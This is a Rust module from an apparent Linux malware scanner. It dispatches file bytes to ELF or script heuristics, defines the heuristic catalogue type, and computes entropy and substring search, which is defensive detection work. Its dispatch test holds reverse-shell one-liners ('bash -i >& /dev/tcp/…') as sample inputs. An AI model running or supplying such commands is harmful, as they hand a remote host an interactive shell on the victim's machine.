//! Heuristics: pure functions from a file's bytes to findings, without signatures.
//!
//! Owns: the dispatch on file type ([`analyze`]: ELF magic → [`elf`], `#!` or
//! other text → [`script`]), the [`Heuristic`] catalogue type that gives every finding a stable id,
//! a base score and a one-line summary, and the byte helpers both analysers share.
//! Must not own: reading the file (the caller hands in the bytes it already read
//! through the event fd), weights or thresholds (`verdict::decide` applies them).
//!
//! Calibration: scores are on the verdict scale (50 = suspicious, 100 = malicious by
//! default). Every signal that ordinary software also shows — static and stripped
//! (Go, Rust), an overlay (self-extracting archives, signatures), high entropy (Go
//! and Rust binaries, compressed resources) — scores well below 50 on its own; only
//! specific evidence (a reverse shell, a tampered packer header) or several
//! independent signals together reach 100. A stock Debian `/usr` gives no malicious
//! verdict; the evaluation that proves it is described in the crate docs.
//!
//! Nothing here panics on malformed input: every offset is checked, arithmetic is
//! checked or saturating, and ELF parsing (goblin, fuzzed upstream) runs under
//! [`elf::PARSE_SIZE_CAP`].

pub mod elf;
pub mod script;

use crate::verdict::{Reason, Stage};

/// One heuristic: a stable id, the score of a typical hit, and what it means.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Heuristic {
    /// Stable identifier, e.g. `elf.upx`; used as [`Reason::id`].
    pub id: &'static str,
    /// Score of a typical hit; some findings scale it with the evidence (the
    /// finding's detail says why).
    pub score: u32,
    /// One-line explanation of what was found and why it matters.
    pub summary: &'static str,
}

impl Heuristic {
    /// A finding of this heuristic with its base score.
    pub fn reason(&self, detail: String) -> Reason {
        self.reason_scored(self.score, detail)
    }

    /// A finding of this heuristic with an adjusted score.
    pub fn reason_scored(&self, score: u32, detail: String) -> Reason {
        Reason {
            stage: Stage::Heuristics,
            id: self.id.to_owned(),
            score,
            detail: format!("{}: {detail}", self.summary),
        }
    }
}

/// Every heuristic, ELF first, for documentation and `vigil` listings.
pub fn catalog() -> impl Iterator<Item = &'static Heuristic> {
    elf::CATALOG.iter().chain(script::CATALOG.iter())
}

/// Runs the heuristics that fit the file: ELF files by their magic, scripts by a
/// leading `#!`, and any other text as a script too ([`script::looks_like_text`]):
/// `bash ./x` and `sh < ./x` run a file that has no `#!` line, and a verdict is a
/// property of the content, whoever reads it. Anything else gives no findings.
pub fn analyze(bytes: &[u8]) -> Vec<Reason> {
    analyze_parsed(bytes, None)
}

/// [`analyze`] with the file's ELF tables already parsed (`elf`, for ELF
/// input; parsed here when `None`): a scan parses each file once, for these
/// heuristics and the model's features.
pub fn analyze_parsed(bytes: &[u8], elf: Option<&vigil_elf::ElfView<'_>>) -> Vec<Reason> {
    if bytes.starts_with(elf::MAGIC) {
        match elf {
            Some(view) => elf::analyze_view(view),
            None => elf::analyze(bytes),
        }
    } else if bytes.starts_with(b"#!") || script::looks_like_text(bytes) {
        script::analyze(bytes)
    } else {
        Vec::new()
    }
}

/// Shannon entropy of `bytes` in bits per byte (0.0 for an empty slice).
pub fn entropy(bytes: &[u8]) -> f64 {
    entropy_of(&[bytes])
}

/// Shannon entropy of several regions taken together, without copying them.
pub fn entropy_of(regions: &[&[u8]]) -> f64 {
    // Four interleaved tables: consecutive equal bytes then increment different
    // counters, so the loop is not serialised on one counter (~2-3x faster).
    let mut tables = [[0u64; 256]; 4];
    let mut total = 0usize;
    for region in regions {
        total += region.len();
        let mut quads = region.chunks_exact(4);
        for q in &mut quads {
            tables[0][usize::from(q[0])] += 1;
            tables[1][usize::from(q[1])] += 1;
            tables[2][usize::from(q[2])] += 1;
            tables[3][usize::from(q[3])] += 1;
        }
        for &byte in quads.remainder() {
            tables[0][usize::from(byte)] += 1;
        }
    }
    let mut counts = [0u64; 256];
    for (i, c) in counts.iter_mut().enumerate() {
        *c = tables[0][i] + tables[1][i] + tables[2][i] + tables[3][i];
    }
    if total == 0 {
        return 0.0;
    }
    let total = total as f64;
    counts
        .iter()
        .filter(|&&count| count > 0)
        .map(|&count| {
            let p = count as f64 / total;
            -p * p.log2()
        })
        .sum()
}

/// Whether `needle` occurs in `haystack`.
pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

/// Offset of the first `needle` in `haystack` (SIMD substring search).
pub(crate) fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(haystack, needle)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn dispatch_table() {
        let cases: &[(&[u8], bool)] = &[
            (b"", false),
            (b"\x7fEL", false),
            // Text without `#!` is read as a script (`bash ./x` runs it) ...
            (b"plain text with bash -i >& /dev/tcp/1.2.3.4/80 0>&1", true),
            // ... binary data is not.
            (b"\x00\x01binary bash -i >& /dev/tcp/1.2.3.4/80 0>&1", false),
            (b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", true),
            (b"\x7fELF", true),
        ];
        for &(bytes, any) in cases {
            assert_eq!(!analyze(bytes).is_empty(), any, "{bytes:?}");
        }
    }

    #[test]
    fn catalog_ids_are_unique_and_prefixed() {
        let mut seen = HashSet::new();
        for heuristic in catalog() {
            assert!(seen.insert(heuristic.id), "duplicate {}", heuristic.id);
            assert!(
                heuristic.id.starts_with("elf.") || heuristic.id.starts_with("script."),
                "{}",
                heuristic.id
            );
            assert!(heuristic.score <= 100, "{}", heuristic.id);
            assert!(!heuristic.summary.is_empty());
        }
        assert!(seen.len() >= 17, "{seen:?}");
    }

    #[test]
    fn entropy_table() {
        let uniform: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
        let cases: &[(&[u8], f64)] = &[(b"", 0.0), (b"aaaa", 0.0), (b"abab", 1.0), (&uniform, 8.0)];
        for &(bytes, want) in cases {
            assert!((entropy(bytes) - want).abs() < 1e-9, "{bytes:?}");
        }
        // Regions together, as if joined.
        assert!((entropy_of(&[b"a", b"b", b"", b"ab"]) - 1.0).abs() < 1e-9);
        assert_eq!(entropy_of(&[]), 0.0);
    }

    #[test]
    fn find_table() {
        let cases: &[(&[u8], &[u8], Option<usize>)] = &[
            (b"abc", b"", Some(0)),
            (b"abc", b"c", Some(2)),
            (b"abc", b"abcd", None),
            (b"", b"a", None),
        ];
        for &(haystack, needle, want) in cases {
            assert_eq!(find(haystack, needle), want);
        }
    }
}
